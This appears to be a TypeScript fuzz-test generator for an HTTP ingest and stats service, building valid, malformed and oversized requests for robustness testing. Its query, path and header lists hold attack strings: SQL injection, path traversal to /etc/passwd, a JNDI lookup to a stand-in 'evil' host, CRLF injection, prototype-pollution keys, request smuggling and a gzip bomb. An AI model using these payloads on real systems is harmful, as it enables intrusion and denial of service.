import { gzipSync } from 'node:zlib';

import { mutate, strangeBody } from '../model/batch-bodies.ts';
import { below, latin1, pick, type Random, type SoundRequest } from './case.ts';
import { tortureBodies } from './torture.ts';

/*
 * Requests that are sound as HTTP: each has one answer, and the next on the connection is read.
 */

const timestamp = '2026-03-01T12:00:00Z';

export function batchBody(state: string, items: number): string {
  const item = JSON.stringify({ type: 'fuzzed', state, timestamp });
  return `{"processed_devices":[${Array<string>(items).fill(item).join(',')}]}`;
}

/** With its length, whole. `lines` are more header lines. */
export function post(body: Buffer | string, lines: readonly string[] = []): Buffer {
  const bytes = Buffer.from(body);
  return Buffer.concat([latin1(head([...lines, `Content-Length: ${bytes.length}`])), bytes]);
}

export function head(lines: readonly string[], line = 'POST /ingest HTTP/1.1'): string {
  return [line, 'Host: fuzz', 'Content-Type: application/json', ...lines, '', ''].join('\r\n');
}

/** The chunks of a body, with sizes that are written oddly and are sound all the same. */
export function chunked(body: Buffer, random: Random): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < body.length;) {
    const length = Math.min(body.length - at, 1 + below(random, pick(random, [3, 60, 5000])));
    const size = pick(random, ['', '', '0', '000000']) + length.toString(16);
    const written = random() < 0.2 ? size.toUpperCase() : size;
    const extension = pick(random, ['', '', '', ';a', ';a=b', ';a="b c";d=e', ';a="b\\"c"']);
    parts.push(
      latin1(`${written}${extension}\r\n`),
      body.subarray(at, at + length),
      latin1('\r\n'),
    );
    at += length;
  }
  const trailer = pick(random, ['', '', 'X-Sum: 1\r\n', 'Content-Type: text/plain\r\nA:\r\n']);
  return Buffer.concat([...parts, latin1(`0\r\n${trailer}\r\n`)]);
}

export function postChunked(body: Buffer, random: Random, lines: readonly string[] = []): Buffer {
  const coding = pick(random, ['chunked', 'Chunked', 'CHUNKED', ' chunked ']);
  return Buffer.concat([
    latin1(head([...lines, `Transfer-Encoding: ${coding}`])),
    chunked(body, random),
  ]);
}

/** One or two, of any kind; the key is no other's of the run. */
export function soundRequests(random: Random, key: string): readonly SoundRequest[] {
  if (random() > 0.05) return [pick(random, kinds)(random)];
  const lines = [`Idempotency-Key: ${key}`, ...oddHeaders(random)];
  const bytes = post(batchBody('answered', 1), lines);
  return [
    { bytes, status: 200 },
    { bytes, status: 200, isRepeat: true },
  ];
}

type Kind = (random: Random) => SoundRequest;

const validBody = (random: Random) => Buffer.from(batchBody('answered', 1 + below(random, 4)));

const kinds: readonly Kind[] = [
  (random) => ({ bytes: post(validBody(random)), status: 200 }),
  (random) => ({ bytes: post(validBody(random), oddHeaders(random)), status: 200 }),
  (random) => ({ bytes: postChunked(validBody(random), random), status: 200 }),
  (random) => ({ bytes: postGzip(gzipSync(validBody(random)), random), status: 200 }),
  (random) => ({ bytes: post(pick(random, tortureBodies)), status: undefined }),
  (random) => ({ bytes: postChunked(pick(random, tortureBodies), random), status: undefined }),
  (random) => ({
    bytes: post(mutate(Buffer.from(strangeBody(random)), random)),
    status: undefined,
  }),
  (random) => ({ bytes: post(strangeBody(random), oddHeaders(random)), status: undefined }),
  (random) => ({ bytes: post(randomBytes(random, below(random, 300))), status: undefined }),
  (random) => brokenGzip(random),
  (random) => get(oddTarget(random), random),
  (random) => get(oddTarget(random), random),
  (random) => ({ ...get('/healthz', random, 'GET'), status: 200 }),
  (random) => ({ bytes: refusedByHeaders(random), status: undefined }),
  (random) => ({ bytes: withBody(random), status: undefined }),
];

function postGzip(body: Buffer, random: Random): Buffer {
  const coding = pick(random, ['gzip', 'GZIP', 'x-gzip']);
  return random() < 0.5
    ? post(body, [`Content-Encoding: ${coding}`])
    : postChunked(body, random, [`Content-Encoding: ${coding}`]);
}

const nearlyTooMuch = gzipSync(`{"a":"${'a'.repeat(4 * 1024 * 1024 - 30)}"}`);
const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, ' '), { level: 9 });

/** Cut short, changed, with garbage behind, in itself, or far too much. */
function brokenGzip(random: Random): SoundRequest {
  const whole = gzipSync(batchBody('answered', 2));
  const dice = random();
  // Rare: each keeps a thread busy for milliseconds.
  if (dice < 0.005) return { bytes: postGzip(bomb, random), status: 413 };
  if (dice < 0.01) return { bytes: postGzip(nearlyTooMuch, random), status: 400 };
  if (dice < 0.3) {
    return { bytes: postGzip(whole.subarray(0, below(random, whole.length)), random), status: 400 };
  }
  if (dice < 0.5) return { bytes: postGzip(gzipSync(whole), random), status: 400 };
  if (dice < 0.7) {
    const garbage = randomBytes(random, 1 + below(random, 20));
    return { bytes: postGzip(Buffer.concat([whole, garbage]), random), status: undefined };
  }
  return { bytes: postGzip(mutate(whole, random), random), status: undefined };
}

const queries = [
  'date=2026-03-01',
  'date=2026-02-30',
  'date=%00',
  'date=2026-03-01&format=csv',
  'date=2026-03-01&format=ndjson',
  'date=2026-03-01&format=markdown',
  'from=2026-03-01&to=2026-03-02&group_by=type',
  'from=0001-01-01&to=9999-12-31',
  'date=2026-03-01&type=%ff&state=%ed%a0%80',
  `date=2026-03-01${'&type=a'.repeat(200)}`,
  'date=2026-03-01&type=%3Cscript%3E',
  "date=2026-03-01&type=';DROP TABLE counters;--".replaceAll(' ', '%20'),
  'date=2026-03-01&__proto__=1&constructor=2&group_by=__proto__',
  '%%%',
  '&&&=',
];

const paths = [
  '/stats',
  '/stats-html',
  '/ingest/00000000-0040-8f3a-9c41-5d0e6f2b7a18',
  '/ingest/__proto__',
  '/ingest/..%2f..%2fetc',
  '/ingest/%00',
  '/../../etc/passwd',
  '//evil/stats',
  '/stats/../healthz',
  '/%2e%2e/%c0%af',
  '/readyz',
  '/',
  '/nothing/here',
  '/favicon.ico',
  'http://other/stats',
  `/${'a'.repeat(4000)}`,
  '/\\evil',
];

function oddTarget(random: Random): string {
  return random() < 0.6
    ? `${pick(random, ['/stats', '/stats-html'])}?${pick(random, queries)}`
    : pick(random, paths);
}

const otherMethods = [
  'GET',
  'GET',
  'GET',
  'PUT',
  'DELETE',
  'OPTIONS',
  'PATCH',
  'TRACE',
  'PROPFIND',
];

function get(target: string, random: Random, method = pick(random, otherMethods)): SoundRequest {
  const line = `${method} ${target} HTTP/1.1`;
  const lines = [line, 'Host: fuzz', ...oddHeaders(random), '', ''];
  return { bytes: latin1(lines.join('\r\n')), status: undefined };
}

/** A body where none is looked for: with a request in it, which is none. */
function withBody(random: Random): Buffer {
  const line = `${pick(random, ['GET', 'DELETE', 'PUT'])} ${oddTarget(random)} HTTP/1.1`;
  const body = post(batchBody('smuggled', 1));
  return Buffer.concat([latin1(head([`Content-Length: ${body.length}`], line)), body]);
}

function refusedByHeaders(random: Random): Buffer {
  const body = post(batchBody('smuggled', 1));
  const lines = pick(random, [
    ['Content-Encoding: br'],
    ['Content-Encoding: gzip, gzip'],
    ['Idempotency-Key: two words'],
    ['Idempotency-Key: \u00e9'],
    [`Idempotency-Key: ${'k'.repeat(256)}`],
    ['Idempotency-Key: a', 'Idempotency-Key: b'],
  ]);
  return post(body, lines);
}

const headerLines = [
  'X-Other: any',
  'X-Empty:',
  'X-Latin: \u00e9\u00ff',
  'X-Terminal: \\u{1b}[31mred',
  'X-Line: %0d%0aX-Injected: 1',
  'Accept: */*',
  'User-Agent: ${jndi:ldap://evil/a}',
  'Cookie: a=b; c="d"',
  'Prefer: handling=lenient',
  'Prefer: ,,;=;handling',
  'Forwarded: for=1.2.3.4;host=evil',
  'X-HTTP-Method-Override: DELETE',
  '__proto__: polluted',
  'constructor: polluted',
  'Connection: keep-alive',
  'Connection: keep-alive, Transfer-Encoding',
  'TE: trailers, deflate;q=0.5',
  'Upgrade: h2c',
  'Range: bytes=0-1,1-2',
  'If-None-Match: *',
  'Authorization: Bearer x',
  `X-Long: ${'l'.repeat(3000)}`,
];

export function oddHeaders(random: Random): string[] {
  const dice = random();
  if (dice < 0.02) return Array.from({ length: 500 }, (_, at) => `X-${at}: ${at}`);
  return Array.from({ length: below(random, 4) }, () => pick(random, headerLines));
}

export function randomBytes(random: Random, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => below(random, 256)));
}
